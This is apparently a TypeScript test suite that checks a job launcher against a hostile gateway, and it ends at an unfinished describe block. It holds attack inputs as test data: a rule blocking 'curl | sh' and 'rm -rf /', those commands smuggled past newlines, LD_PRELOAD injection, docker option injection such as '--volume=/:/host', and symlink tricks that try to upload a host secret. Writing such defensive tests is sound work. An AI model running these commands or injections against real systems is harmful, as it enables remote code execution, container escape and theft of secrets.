// The launcher trusts no run and no gateway message. A gateway of our own making sends what a
// hostile gateway (or a hostile run through an honest one) could, to a real launcher; each test
// asserts what crossed: what the docker CLI was given (argv and environment), what state was
// uploaded, what the log says. Each hostile case is followed by a normal run.
import assert from "node:assert/strict";
import { execFile, spawn } from "node:child_process";
import { chmodSync, chownSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import http from "node:http";
import type net from "node:net";
import path from "node:path";
import { Readable } from "node:stream";
import { promisify } from "node:util";
import { launcherSettings, type LauncherSettings } from "../agent/config/launcher";
import { launcherRole } from "../agent/launcher/launcher";
import { RUN_LINE_MARK } from "../agent/launcher/output";
import type { RunningAgent } from "../agent/runtime/runtime";
import { packageRoot, RUNTIME_NODE_FLAGS } from "../components/shared/bundles";
import { loadOrCreateAuthority, signPoolRequest } from "../gateway/certificates";
import { createPool } from "../gateway/pools";
import { capturingLogger, eventually, scratchDir } from "../devkit/helpers";
import { writeDockerStandIn } from "../devkit/docker-stand-in";
import { certificateKey, openBuffer, privateKeyFromBase64, sealBuffer, sealStream } from "../protocol/seal";
import { decodeToken } from "../protocol/token";
import { acceptWebSocket, WEBSOCKET_MAX_MESSAGE, type WebSocket } from "../protocol/websocket";
import { MAX_LOG_BYTES, WORKER_CONNECT_PATH } from "../protocol/worker";

const exec = promisify(execFile);
const POOL = "hostile";

/** A gateway that sends whatever it is told to, and keeps what it receives. */
class RecordingGateway {
  readonly messages: Record<string, any>[] = [];
  readonly uploads = new Map<string, Buffer>();
  readonly served = new Map<string, Buffer>();
  /** Answers a state download itself, as a hostile gateway would. */
  stateAnswer?: (req: http.IncomingMessage, res: http.ServerResponse) => void;
  /** The status a state upload is answered with (204, stored, unless set). */
  uploadStatus = 204;
  /** Outcomes are not acknowledged until ackHeld(): the launcher keeps the run's files meanwhile. */
  holdAcks = false;
  private readonly unacked: string[] = [];
  private fence = 0;
  private server = http.createServer((req, res) => this.request(req, res));
  private sockets: WebSocket[] = [];
  private raw: net.Socket[] = [];
  url = "";

  async listen(): Promise<void> {
    this.server.on("upgrade", (req, socket: net.Socket, head) => {
      if (req.url !== WORKER_CONNECT_PATH) {
        socket.destroy();
        return;
      }
      const ws = acceptWebSocket(req.headers, socket, head);
      this.sockets.push(ws);
      this.raw.push(socket);
      ws.on("message", (text: string) => {
        const message = JSON.parse(text);
        this.messages.push(message);
        // The lease stands at once; an outcome is stored at once.
        if (message.type === "accepted")
          ws.send(JSON.stringify({ type: "start", id: message.id, fence: message.fence, lines: 0, termMs: 60_000 }));
        if (message.type === "finished" && this.holdAcks) this.unacked.push(message.id);
        else if (message.type === "finished") ws.send(JSON.stringify({ type: "ack", id: message.id }));
      });
    });
    await new Promise<void>((resolve) => this.server.listen(0, "127.0.0.1", resolve));
    this.url = `http://127.0.0.1:${(this.server.address() as net.AddressInfo).port}`;
  }

  private request(req: http.IncomingMessage, res: http.ServerResponse): void {
    const id = /\/runs\/([^/]+)\/state$/.exec(req.url ?? "")?.[1] ?? "";
    if (req.method === "GET" && this.stateAnswer) return this.stateAnswer(req, res);
    if (req.method === "GET") {
      const body = this.served.get(id);
      res.writeHead(body ? 200 : 404).end(body);
      return;
    }
    const chunks: Buffer[] = [];
    req.on("data", (chunk: Buffer) => chunks.push(chunk));
    req.on("end", () => {
      if (this.uploadStatus !== 204) return void res.writeHead(this.uploadStatus).end();
      this.uploads.set(id, Buffer.concat(chunks));
      res.writeHead(204).end();
    });
  }

  /** Runs `body` with outcomes held (not acknowledged), then acknowledges them, whatever it did. */
  async holding<T>(body: () => Promise<T>): Promise<T> {
    this.holdAcks = true;
    try {
      return await body();
    } finally {
      this.holdAcks = false;
      this.ackHeld();
    }
  }

  ackHeld(): void {
    for (const id of this.unacked.splice(0)) this.sendRaw(JSON.stringify({ type: "ack", id }));
  }

  /** Sends a raw message to every connected launcher. */
  sendRaw(text: string): void {
    for (const ws of this.sockets) if (ws.open) ws.send(text);
  }

  connected = () => this.sockets.some((ws) => ws.open);

  /** Stops reading what launchers send (the kernel's buffers fill, then theirs), or reads again. */
  reading(on: boolean): void {
    for (const socket of this.raw)
      if (on) socket.resume();
      else socket.pause();
  }

  /** Sends a run and waits for its end: refused, or finished with its log. */
  async run(
    run: Record<string, unknown>,
  ): Promise<{ type: string; status?: string; reason?: string; state?: boolean; lines: string[] }> {
    const from = this.messages.length;
    this.sendRaw(JSON.stringify({ type: "run", run, lease: { fence: ++this.fence, termMs: 60_000 } }));
    const end = await eventually(
      () => this.messages.slice(from).find((m) => m.id === run.id && (m.type === "refused" || m.type === "finished")),
      15_000,
      `the end of run ${String(run.id)}`,
    );
    const lines = this.messages.filter((m) => m.type === "log" && m.id === run.id).flatMap((m) => m.lines as string[]);
    return { ...end, type: end.type as string, lines };
  }

  async close(): Promise<void> {
    for (const ws of this.sockets) ws.close();
    await new Promise((resolve) => this.server.close(resolve));
  }
}

let counter = 0;
const id = () => `run-${++counter}-${process.pid}`;

describe("launcher: a hostile gateway or run", function () {
  this.timeout(60_000);
  const dir = scratchDir("launcher-hostile-");
  const gateway = new RecordingGateway();
  const hostSecret = path.join(dir, "host-secret.txt");
  let token = "";
  let keyBase64 = "";
  let seal: (text: string) => Promise<string>;

  before(async () => {
    await exec(
      "openssl",
      ["req", "-new", "-newkey", "rsa:2048", "-nodes", "-keyout", "k.pem", "-out", "c.csr", "-subj", "/CN=hostile"],
      { cwd: dir },
    );
    keyBase64 = readFileSync(path.join(dir, "k.pem")).toString("base64");
    await gateway.listen();
    const certificate = await signPoolRequest(
      await loadOrCreateAuthority(path.join(dir, "ca")),
      readFileSync(path.join(dir, "c.csr"), "utf8"),
      POOL,
    );
    token = createPool(POOL, "worker", gateway.url, certificate).token;
    seal = async (text) => (await sealBuffer(certificateKey(certificate), Buffer.from(text))).toString("base64");
    writeFileSync(hostSecret, "HOST-ONLY-SECRET-6f1d");
  });
  after(() => gateway.close());

  const settings = (overrides: Partial<Record<keyof LauncherSettings, unknown>> = {}): LauncherSettings =>
    launcherSettings.parse({
      token,
      poolPrivateKey: keyBase64,
      executor: "process",
      workDirectory: scratchDir("work-"),
      maskedEnvVars: ["DEPLOY_KEY"],
      logsTimeout: "5s",
      ...overrides,
    });

  /** A normal run after each hostile one: the launcher still takes work and runs it. */
  async function stillWorks(): Promise<void> {
    const normal = await gateway.run({ id: id(), image: "alpine:3", commands: ["echo normal"] });
    assert.deepEqual(
      [normal.type, normal.status, normal.lines],
      ["finished", "succeeded", ["normal"]],
      JSON.stringify(normal),
    );
  }

  for (const executor of ["process", "docker"] as const) {
    describe(`${executor} executor`, () => {
      let launcher: RunningAgent;
      let calls = "";
      const log = capturingLogger("launcher");
      /** A container an earlier launcher on this engine left running (it died mid-run): its process group. */
      let earlier = 0;
      /** The launcher's work directory: a run's files, until the gateway has its result. */
      const work = scratchDir(`work-${executor}-`);

      /** The docker CLI's invocations so far (stand-in): argv and environment of each. */
      const dockerCalls = () =>
        existsSync(calls)
          ? readFileSync(calls, "utf8")
              .split("CALL\0")
              .slice(1)
              .map((call) => {
                const [argv, rest] = call.split("ENV\0");
                const [env, envFile] = rest.split("FILE\0");
                return {
                  argv: argv.split("\0").slice(0, -1),
                  env: Object.fromEntries(
                    env
                      .split("\0")
                      .slice(0, -1)
                      .map((line) => [line.slice(0, line.indexOf("=")), line.slice(line.indexOf("=") + 1)]),
                  ),
                  envFile,
                };
              })
          : [];

      before(async () => {
        const policy = path.join(dir, `policy-${executor}.json`);
        writeFileSync(policy, JSON.stringify({ deniedCommands: ["^curl .*\\|\\s*sh$", "rm -rf /$"] }));
        let docker: string | undefined;
        if (executor === "docker") {
          // No engine here: a stand-in docker records each call, then runs the script on this
          // host in the workspace it was given, as a container would.
          calls = path.join(dir, "docker-calls");
          docker = writeDockerStandIn(dir, calls);
          const container = spawn("sh", ["-c", "while :; do sleep 0.05; done"], { detached: true, stdio: "ignore" });
          earlier = container.pid as number;
          mkdirSync(path.join(dir, "containers"), { recursive: true });
          writeFileSync(path.join(dir, "containers", "agentpools-run-earlier"), String(earlier));
        }
        const env = {
          PATH: process.env.PATH,
          DOCKER_HOST: "unix:///run/agentpools-test.sock",
          DEPLOY_KEY: "-----BEGIN KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\n-----END KEY-----",
        };
        launcher = await launcherRole({ docker }).start(
          settings({ executor, runInitializationPolicyFile: policy, workDirectory: work }),
          {
            log: log.log,
            env,
          },
        );
        await launcher.ready;
        await eventually(gateway.connected);
      });
      after(() => launcher.drain(Date.now() + 2000));

      it("runs a normal run", stillWorks);

      if (executor === "docker") {
        it("a container an earlier launcher left running is gone before this launcher's first run starts", () => {
          const argvs = dockerCalls().map(({ argv }) => argv.join(" "));
          const removed = argvs.indexOf("rm -f agentpools-run-earlier");
          const firstRun = argvs.findIndex((argv) => argv.startsWith("run "));
          assert.ok(removed >= 0 && firstRun > removed, `removed, then the first run: ${JSON.stringify(argvs)}`);
          assert.throws(() => process.kill(earlier, 0), "the earlier container's processes are gone");
        });
      }

      it("an image that is an option is refused before docker sees it: --volume=/:/host, --runtime=runc, -v", async () => {
        const before = dockerCalls().length;
        for (const image of [
          "--volume=/:/host",
          "--runtime=runc",
          "-v",
          "alpine:3 --privileged",
          "alpine:3\n--privileged",
          "alpine:3\t-v",
        ]) {
          const run = await gateway.run({ id: id(), image, commands: ["echo escaped"] });
          assert.equal(run.type, "refused", image);
          assert.match(run.reason ?? "", /is not an image reference/);
          await stillWorks();
        }
        if (executor === "docker") {
          const seen = dockerCalls().slice(before);
          assert.ok(
            seen.every(
              (call) =>
                call.argv.includes("alpine:3") &&
                !call.argv.some((a) => a.startsWith("--volume") || a === "--runtime=runc" || a === "-v"),
            ),
            "no option from the run reached docker",
          );
        }
      });

      if (executor === "docker") {
        it("docker's options end before the image, which comes right after --", async () => {
          await stillWorks();
          const { argv } = dockerCalls().at(-1)!;
          assert.equal(argv[argv.indexOf("--") + 1], "alpine:3");
          assert.ok(argv.indexOf("--") > argv.indexOf("--entrypoint"), "-- after every option");
        });
      }

      it("run variables that steer the docker client or the loader are refused with the reason, and reach nothing", async () => {
        const before = dockerCalls().length;
        for (const name of [
          "LD_PRELOAD",
          "LD_LIBRARY_PATH",
          "DOCKER_HOST",
          "DOCKER_CONFIG",
          "HTTPS_PROXY",
          "https_proxy",
          "NO_PROXY",
          "GODEBUG",
          "PATH",
          "HOME",
          "GLIBC_TUNABLES",
          "SSL_CERT_FILE",
          "GCONV_PATH",
          "OTEL_EXPORTER_OTLP_ENDPOINT",
          "OTEL_EXPORTER_OTLP_HEADERS",
          "ZONEINFO",
          "TMPDIR",
          "HOSTALIASES",
          "RES_OPTIONS",
          "LOCALDOMAIN",
        ]) {
          const run = await gateway.run({
            id: id(),
            image: "alpine:3",
            commands: ["echo ran"],
            sealedEnvironment: await seal(JSON.stringify({ [name]: "/tmp/evil" })),
          });
          assert.equal(run.type, "refused", name);
          assert.match(
            run.reason ?? "",
            new RegExp(`run variable ${name} would steer the Docker client or its loader`),
          );
          await stillWorks();
        }
        if (executor === "docker") {
          for (const call of dockerCalls().slice(before)) {
            assert.ok(!Object.values(call.env).includes("/tmp/evil"), "no refused value reached docker");
            assert.equal(
              call.env.DOCKER_HOST,
              "unix:///run/agentpools-test.sock",
              "the client's own variables are the launcher's",
            );
          }
        }
      });

      if (executor === "docker") {
        it("the docker CLI's environment is fixed: the launcher's client variables; the run's reach the container through a 0600 file, removed after", async () => {
          const variables = { TF_VAR_x: "1", TF_VAR_y: "otel-like", TF_VAR_key: "line one\nline two" };
          const run = await gateway.run({
            id: id(),
            image: "alpine:3",
            commands: ['echo "v=$TF_VAR_x $TF_VAR_y"; printf "%s|" "$TF_VAR_key"'],
            sealedEnvironment: await seal(JSON.stringify(variables)),
          });
          assert.deepEqual([run.status, run.lines], ["succeeded", ["v=1 otel-like", "line one", "line two|"]]);
          const { argv, env, envFile } = dockerCalls().at(-1)!;
          // PWD is the stand-in shell's own; values of several lines (the launcher's DEPLOY_KEY, the run's key) go by name.
          assert.deepEqual(
            Object.keys(env)
              .filter((name) => name !== "PWD")
              .sort(),
            ["DEPLOY_KEY", "DOCKER_HOST", "PATH", "TF_VAR_key"],
          );
          assert.equal(env.PATH, process.env.PATH);
          const file = argv[argv.indexOf("--env-file") + 1];
          assert.ok(!file.startsWith(path.dirname(file) + "/workspace"), "not in the workspace the run mounts");
          const [mode, ...lines] = envFile.split("\n");
          assert.equal(mode, "600");
          assert.deepEqual(lines.filter((line) => !line.startsWith("AGENTPOOLS_") && line !== "DEPLOY_KEY").sort(), [
            "TF_VAR_key",
            "TF_VAR_x=1",
            "TF_VAR_y=otel-like",
          ]);
          assert.ok(!argv.some((a) => a.includes("otel-like")), "no value on the command line");
          await eventually(() => !existsSync(file), 2000, "the env file removed once the client is done");
        });

        it("a stopped run whose container outlives its client holds the slot until the engine has removed it", async () => {
          // The engine is slow to remove (or silent): the client is killed, its container still runs and writes.
          const hold = path.join(dir, "hold");
          writeFileSync(hold, "");
          const first = id();
          gateway.sendRaw(
            JSON.stringify({
              type: "run",
              run: {
                id: first,
                image: "alpine:3",
                commands: ["echo up; while :; do date > still-here; sleep 0.01; done"],
              },
              lease: { fence: 1, termMs: 60_000 },
            }),
          );
          const container = path.join(dir, "containers", `agentpools-run-${first}`);
          // The stand-in makes the file, then writes the pid in it: read once it is there (an empty file reads as 0).
          const pid = await eventually(
            () => existsSync(container) && Number(readFileSync(container, "utf8")),
            10_000,
            "the container started",
          );
          gateway.sendRaw(JSON.stringify({ type: "revoked", id: first, reason: "stopped by the test" }));
          await eventually(() => dockerCalls().some(({ argv }) => argv.includes("rm") && argv.at(-1)?.endsWith(first)));
          // The slot is still the stopped run's: the next run is refused (to be offered again), and nothing of it ran.
          const next = await gateway.run({ id: id(), image: "alpine:3", commands: ["echo next"] });
          assert.deepEqual([next.type, next.reason, next.lines], ["refused", "the worker is busy", []]);
          assert.equal(process.kill(pid, 0), true, "the container is still running");
          rmSync(hold);
          await eventually(() => !existsSync(container), 10_000, "the container removed");
          assert.throws(() => process.kill(pid, 0), "the container's processes are gone");
          // The slot is given back a moment after the removal: the next offer is taken once it is.
          await eventually(async () => (await gateway.run({ id: id(), image: "alpine:3", commands: ["true"] })).status);
          await stillWorks();
        });
      }

      it("messages of the wrong shape are refused or ignored; the launcher survives each", async () => {
        for (const raw of [
          "null",
          "42",
          '"run"',
          '{"type":"run"}',
          '{"type":"run","run":null}',
          '{"type":"run","run":{"id":{"x":1}}}',
          '{"type":"resume","id":{},"lines":"x"}',
          '{"type":"ack","id":[]}',
        ]) {
          gateway.sendRaw(raw);
          await stillWorks();
        }
        const shapes: [Record<string, unknown>, RegExp][] = [
          [{ image: 7, commands: ["x"] }, /image 7 is not an image reference/],
        ];
        for (const [run, reason] of shapes) {
          const outcome = await gateway.run({ id: id(), ...run });
          assert.equal(outcome.type, "refused");
          assert.match(outcome.reason ?? "", reason);
          await stillWorks();
        }
        // A variable name that smuggles a value past the check (LD_PRELOAD=...) is refused too.
        const smuggled = await gateway.run({
          id: id(),
          image: "alpine:3",
          commands: ["true"],
          sealedEnvironment: await seal(JSON.stringify({ "LD_PRELOAD=/tmp/evil.so": "" })),
        });
        assert.match(smuggled.reason ?? "", /is not a variable name/);
        // Commands that are not strings fail that run (they never reach a shell), and nothing else.
        for (const commands of ["echo not-a-list", [1, 2], null]) {
          const odd = await gateway.run({ id: id(), image: "alpine:3", commands });
          assert.notEqual(odd.status, "succeeded", JSON.stringify(commands));
          await stillWorks();
        }
      });

      it("a run's files go where the launcher chose: never a path named after the run's ID", async () => {
        const runId = `predictable-${process.pid}-${executor}`;
        const run = await gateway.run({ id: runId, image: "alpine:3", commands: ["pwd"] });
        assert.equal(run.status, "succeeded");
        assert.ok(!run.lines[0].includes(runId), run.lines[0]);
      });

      it("a state file that points elsewhere is never uploaded: symbolic link, linked directory, hard link, FIFO", async () => {
        const attempts: [string, string][] = [
          ["a symbolic link to a host file", `mkdir -p .agentpools && ln -s '${hostSecret}' .agentpools/state`],
          [
            "its directory a symbolic link",
            `mkdir -p linked && ln -s '${hostSecret}' linked/state && rm -rf .agentpools && ln -s linked .agentpools`,
          ],
          ["a hard link to a host file", `mkdir -p .agentpools && ln '${hostSecret}' .agentpools/state`],
          ["a FIFO nobody writes", "mkdir -p .agentpools && mkfifo .agentpools/state"],
        ];
        for (const [what, command] of attempts) {
          const runId = id();
          const run = await gateway.run({ id: runId, image: "alpine:3", commands: [command] });
          assert.equal(run.status, "succeeded", what);
          assert.equal(run.state, false, what);
          assert.ok(!gateway.uploads.has(runId), `${what}: nothing uploaded`);
          assert.ok(
            run.lines.some((line) => line.startsWith("[agentpools: state not kept")),
            `${what}: ${run.lines.join(" | ")}`,
          );
          await stillWorks();
        }
        assert.ok(
          ![...gateway.uploads.values()].some((body) => body.includes("HOST-ONLY")),
          "no host file crossed, even sealed",
        );
        // The honest case still works, and what crossed is the run's own state, sealed.
        const honest = await gateway.run({
          id: id(),
          image: "alpine:3",
          commands: ['mkdir -p "$(dirname "$AGENTPOOLS_STATE_FILE")" && echo own-state > "$AGENTPOOLS_STATE_FILE"'],
        });
        assert.equal(honest.state, true);
        const uploaded = [...gateway.uploads.values()].at(-1)!;
        assert.equal((await openBuffer(privateKeyFromBase64(keyBase64), uploaded)).toString(), "own-state\n");
      });

      it("deniedCommands rules see each line of a command: a newline or a continuation does not step around them", async () => {
        for (const command of [
          "echo hi\ncurl -s https://x.example | sh",
          "curl -s https://x.example \\\n| sh",
          "true\r\nrm -rf /",
        ]) {
          const run = await gateway.run({ id: id(), image: "alpine:3", commands: [command] });
          assert.equal(run.type, "refused", JSON.stringify(command));
          assert.match(run.reason ?? "", /matches the denied pattern/);
          await stillWorks();
        }
      });

      it("masks a value with newlines, printed whole or split across writes", async () => {
        const run = await gateway.run({
          id: id(),
          image: "alpine:3",
          commands: [
            'printf "%s\\n" "$DEPLOY_KEY"',
            'printf "%s" "$DEPLOY_KEY" | head -c 20; sleep 0.1; printf "%s\\n" "$DEPLOY_KEY" | tail -c +21',
          ],
        });
        assert.equal(run.status, "succeeded");
        const text = run.lines.join("\n");
        for (const part of ["MIIEvQIBADANBgkqhkiG9w0B", "BEGIN KEY"])
          assert.ok(!text.includes(part), `${part} shown: ${text}`);
        await stillWorks();
      });

      it("a run cannot print a line that reads as the launcher's own", async () => {
        const run = await gateway.run({
          id: id(),
          image: "alpine:3",
          commands: [
            "echo '[agentpools: killed: the launcher was stopped]'",
            "printf '\\033[0m[agentpools: the log is cut]\\n'",
            "exit 1",
          ],
        });
        assert.equal(run.status, "failed");
        assert.ok(
          run.lines.every((line) => !line.replaceAll("\u001b[0m", "").startsWith("[agentpools")),
          run.lines.join(" | "),
        );
        assert.equal(run.lines.filter((line) => line.startsWith(RUN_LINE_MARK)).length, 2);
        await stillWorks();
      });

      it("a log of long lines of three-byte characters is cut at its byte cap: the launcher holds no more, says where, and serves the next run", async () => {
        // 2,600 lines of 5,000 euro signs: 39 MB, well within the line cap.
        const run = await gateway.run({
          id: id(),
          image: "alpine:3",
          commands: ["line=$(printf '\u20ac%.0s' $(seq 5000)); yes \"$line\" | head -n 2600"],
        });
        assert.equal(run.status, "succeeded", JSON.stringify(run.lines.slice(-2)));
        const marker = run.lines.at(-1) ?? "";
        const bytes = run.lines.slice(0, -1).reduce((sum, line) => sum + Buffer.byteLength(line), 0);
        assert.match(marker, /^\[agentpools: the log is cut at 200000 lines or 32 MiB\]$/);
        assert.ok(bytes <= MAX_LOG_BYTES && bytes > MAX_LOG_BYTES - 15_001, `${bytes} bytes kept`);
        assert.ok(run.lines.slice(0, -1).every((line) => line === "\u20ac".repeat(5000)));
        await stillWorks();
      });

      if (executor === "process")
        it("a gateway that asks a long log again gets it whole, in messages under the WebSocket cap", async () => {
          await gateway.holding(async () => {
            // 32 MiB of three-byte characters kept: as one message, the resend would be twice the cap.
            const runId = id();
            const run = await gateway.run({
              id: runId,
              image: "alpine:3",
              commands: ["line=$(printf '\u20ac%.0s' $(seq 5000)); yes \"$line\" | head -n 2600"],
            });
            const fence = gateway.messages.find((m) => m.type === "accepted" && m.id === runId)?.fence;
            const from = gateway.messages.length;
            gateway.sendRaw(JSON.stringify({ type: "start", id: runId, fence, lines: 0, termMs: 60_000 }));
            const resent = () => gateway.messages.slice(from).filter((m) => m.type === "log" && m.id === runId);
            await eventually(
              () => resent().reduce((n, m) => n + m.lines.length, 0) >= run.lines.length,
              15_000,
              "the log resent",
            );
            assert.deepEqual(
              resent().flatMap((m) => m.lines),
              run.lines,
            );
            for (const message of resent())
              assert.ok(Buffer.byteLength(JSON.stringify(message)) < WEBSOCKET_MAX_MESSAGE, "a message under the cap");
            assert.ok(resent().length > 1);
            // Indexes that are not one resend nothing (-1e15 was a loop without end, "0" a concatenation); a valid one
            // after them, its last line alone, shows they were read.
            const after = gateway.messages.length;
            for (const lines of [-1e15, "0", 1.5, null, run.lines.length - 1])
              gateway.sendRaw(JSON.stringify({ type: "start", id: runId, fence, lines, termMs: 60_000 }));
            const again = () => gateway.messages.slice(after).filter((m) => m.type === "log" && m.id === runId);
            await eventually(() => again().length > 0, 15_000, "the last line resent");
            assert.deepEqual(
              again().map((m) => [m.from, m.lines.length]),
              [[run.lines.length - 1, 1]],
            );
          });
          await stillWorks();
        });

      if (executor === "process")
        it("a gateway that asks for a log again and again, reading nothing, gets it once per message's worth it reads", async () => {
          const runId = id();
          await gateway.holding(async () => {
            // 4 MB of log, asked for 20 times over while the gateway reads nothing: 80 MB would wait in the launcher.
            const run = await gateway.run({
              id: runId,
              image: "alpine:3",
              commands: ["line=$(printf 'x%.0s' $(seq 5000)); yes \"$line\" | head -n 800"],
            });
            const fence = gateway.messages.find((m) => m.type === "accepted" && m.id === runId)?.fence;
            const from = gateway.messages.length;
            gateway.reading(false);
            for (let i = 0; i < 20; i++)
              gateway.sendRaw(JSON.stringify({ type: "start", id: runId, fence, lines: 0, termMs: 60_000 }));
            // A run offered after the asks: its acceptance arrives after whatever the asks made the launcher send.
            const probe = id();
            gateway.sendRaw(
              JSON.stringify({
                type: "run",
                run: { id: probe, image: "alpine:3", commands: ["true"] },
                lease: { fence: 1_000_000, termMs: 60_000 },
              }),
            );
            gateway.reading(true);
            await eventually(
              () => gateway.messages.some((m) => m.type === "accepted" && m.id === probe),
              30_000,
              "the probe's acceptance",
            );
            const copies =
              gateway.messages
                .slice(from)
                .filter((m) => m.type === "log" && m.id === runId)
                .reduce((n, m) => n + m.lines.length, 0) / run.lines.length;
            // Whole copies, while less than a message's worth (16 MiB) waited to leave, and the kernel's buffers took some.
            assert.ok(copies >= 1 && copies <= 8 && Number.isInteger(copies), `${copies} copies of the log`);
            await eventually(
              () => gateway.messages.some((m) => m.type === "finished" && m.id === probe),
              15_000,
              "the probe run",
            );
          });
          await stillWorks();
        });

      it("a gateway that never takes a result gets four runs held, then refusals to retry, not a disk of them", async () => {
        await gateway.holding(async () => {
          for (let i = 0; i < 4; i++) {
            const run = await gateway.run({
              id: id(),
              image: "alpine:3",
              commands: ["head -c 100000 /dev/zero > blob"],
            });
            assert.equal(run.status, "succeeded");
          }
          assert.equal(readdirSync(work).length, 4, "four results held, with their files");
          const fifth = await gateway.run({ id: id(), image: "alpine:3", commands: ["echo never"] });
          assert.deepEqual([fifth.type, fifth.reason, fifth.lines], ["refused", "the worker is busy", []]);
          assert.equal(gateway.messages.find((m) => m.type === "refused" && m.reason === fifth.reason)?.retry, true);
          assert.equal(readdirSync(work).length, 4, "nothing more kept");
        });
        await eventually(() => readdirSync(work).length === 0, 5000, "the results taken, their files gone");
        await stillWorks();
      });

      if (executor === "process")
        it("runs to refuse, sent by a gateway that reads nothing, fill neither the launcher's memory nor its log", async () => {
          // A result held, whose revocation the launcher logs: the sign that it has read what came before it.
          gateway.holdAcks = true;
          const held = id();
          try {
            assert.equal((await gateway.run({ id: held, image: "alpine:3", commands: ["true"] })).status, "succeeded");
          } finally {
            gateway.holdAcks = false;
          }
          // 40 runs of a 1 MiB image that is no image: each refusal quotes it, some 4 MiB of JSON.
          const image = '"'.repeat(1 << 20);
          const refusals = () =>
            gateway.messages.filter((m) => m.type === "refused" && m.reason?.startsWith("refused"));
          const before = refusals().length;
          const logged = () => log.lines.filter((line) => line.msg === "run refused");
          const loggedBefore = logged().length;
          gateway.reading(false);
          for (let i = 0; i < 40; i++)
            gateway.sendRaw(JSON.stringify({ type: "run", run: { id: id(), image }, lease: { fence: 1 } }));
          gateway.sendRaw(JSON.stringify({ type: "revoked", id: held, reason: "read up to here" }));
          await eventually(() => log.lines.some((line) => line.msg === "lease revoked" && line.run === held), 30_000);
          gateway.reading(true);
          // A run after them: its answer comes after whatever they made the launcher queue.
          const probe = await gateway.run({ id: id(), image: "alpine:3", commands: ["true"] });
          assert.equal(probe.status, "succeeded");
          const answered = refusals().length - before;
          // While 16 MiB waited to leave (beyond what the kernel's buffers took), the rest were dropped: their leases lapse.
          assert.ok(answered >= 1 && answered <= 16, `${answered} of 40 refusals queued for a gateway reading nothing`);
          // In the log, a refusal a second at most.
          const lines = logged().slice(loggedBefore);
          const spanMs = Date.parse(lines.at(-1)!.time) - Date.parse(lines[0].time);
          assert.ok(lines.length >= 1 && lines.length <= spanMs / 1000 + 1, `${lines.length} lines in ${spanMs} ms`);
          // Each of them short, though it quotes a 1 MiB image.
          for (const line of lines)
            assert.ok(JSON.stringify(line).length < 8192, `${JSON.stringify(line).length} characters`);
          await stillWorks();
        });

      it("an environment sealed for the pool that is no JSON is refused without a character of it, in the reason or the log", async () => {
        const secret = "hunter2-deploy-password-0f3a9c";
        const logged = log.lines.length;
        const refused = await gateway.run({
          id: id(),
          image: "alpine:3",
          commands: ["true"],
          sealedEnvironment: await seal(`${secret} and more`),
        });
        assert.equal(refused.type, "refused");
        assert.match(refused.reason ?? "", /environment cannot be opened/);
        const said = [refused.reason, ...log.lines.slice(logged).map((line) => JSON.stringify(line))].join("\n");
        // (JSON.parse's own message quotes the text it met: "Unexpected token 'h', "hunter2-de"... is not valid JSON".)
        assert.ok(!/'h'|hunter/.test(said), said);
        await stillWorks();
      });

      it("a gateway's values nested 10,000 deep (a lease's fence, a revocation's reason) end neither the launcher nor its log", async () => {
        // 20 KB of JSON that JSON.parse reads and JSON.stringify cannot write back (the stack ends first).
        const deep = id();
        gateway.sendRaw(
          JSON.stringify({
            type: "run",
            run: { id: deep, image: "alpine:3", commands: ["true"] },
            lease: { fence: 1 },
          }).replace('"fence":1', `"fence":${"[".repeat(10_000)}${"]".repeat(10_000)}`),
        );
        // A run it holds, revoked with a reason so nested.
        gateway.holdAcks = true;
        const held = id();
        try {
          assert.equal((await gateway.run({ id: held, image: "alpine:3", commands: ["true"] })).status, "succeeded");
        } finally {
          gateway.holdAcks = false;
        }
        gateway.sendRaw(
          `{"type":"revoked","id":${JSON.stringify(held)},"reason":${"[".repeat(10_000)}${"]".repeat(10_000)}}`,
        );
        const revoked = await eventually(
          () => log.lines.find((line) => line.msg === "lease revoked" && line.cut),
          5000,
        );
        assert.equal(JSON.stringify(revoked).length < 8192, true);
        assert.ok(!gateway.messages.some((m) => m.id === deep), "the run of a nested fence is not taken");
        await stillWorks();
      });

      if (executor === "process")
        it("a gateway that fails every delivery under a 100 ms lease gets one line a second in the log, not one a renewal", async () => {
          gateway.uploadStatus = 500;
          gateway.holdAcks = true;
          const runId = id();
          const logged = log.lines.length;
          try {
            const from = gateway.messages.length;
            gateway.sendRaw(
              JSON.stringify({
                type: "run",
                run: { id: runId, image: "alpine:3", commands: ['echo kept > "$AGENTPOOLS_STATE_FILE"'] },
                lease: { fence: 1 },
              }),
            );
            const fence = (await eventually(() => gateway.messages.slice(from).find((m) => m.id === runId))).fence;
            // The shortest term a gateway may give: a renewal, and a delivery, every 33 ms.
            gateway.sendRaw(JSON.stringify({ type: "start", id: runId, fence, lines: 0, termMs: 100 }));
            const failed = () => log.lines.slice(logged).filter((line) => line.msg.startsWith("could not deliver"));
            await eventually(() => failed().length >= 2, 10_000, "two failed deliveries logged");
            const spanMs = Date.parse(failed().at(-1)!.time) - Date.parse(failed()[0].time);
            assert.ok(failed().length <= spanMs / 1000 + 1, `${failed().length} lines in ${spanMs} ms`);
          } finally {
            gateway.uploadStatus = 204;
            gateway.sendRaw(JSON.stringify({ type: "start", id: runId, fence: 1, lines: 0, termMs: 60_000 }));
            gateway.holdAcks = false;
            gateway.ackHeld();
          }
          await eventually(() => gateway.messages.some((m) => m.type === "finished" && m.id === runId), 10_000);
          await stillWorks();
        });

      it("a run sent again under the ID of one whose result the gateway has not taken: the first's files go at once", async () => {
        const runId = id();
        await gateway.holding(async () => {
          const first = await gateway.run({
            id: runId,
            image: "alpine:3",
            commands: ["head -c 100000 /dev/zero > blob"],
          });
          assert.equal(first.status, "succeeded");
          assert.equal(readdirSync(work).length, 1, "the first run's files, kept for its result");
          const again = await gateway.run({ id: runId, image: "alpine:3", commands: ["echo again"] });
          assert.deepEqual([again.status, again.lines.at(-1)], ["succeeded", "again"]);
          assert.equal(readdirSync(work).length, 1, "the second run's files alone");
        });
        await eventually(() => readdirSync(work).length === 0, 5000, "nothing left once the result is taken");
        await stillWorks();
      });

      it("output without newlines is cut into bounded lines, without holding the launcher", async () => {
        const run = await gateway.run({
          id: id(),
          image: "alpine:3",
          commands: ["head -c 1000000 /dev/zero | tr '\\0' x", "echo; echo end"],
        });
        assert.equal(run.status, "succeeded");
        assert.ok(run.lines.every((line) => line.length <= 16 * 1024));
        assert.equal(run.lines.join("").length, 1_000_000 + 3);
        await stillWorks();
      });
    });
  }

  describe("state downloads from a hostile gateway", () => {
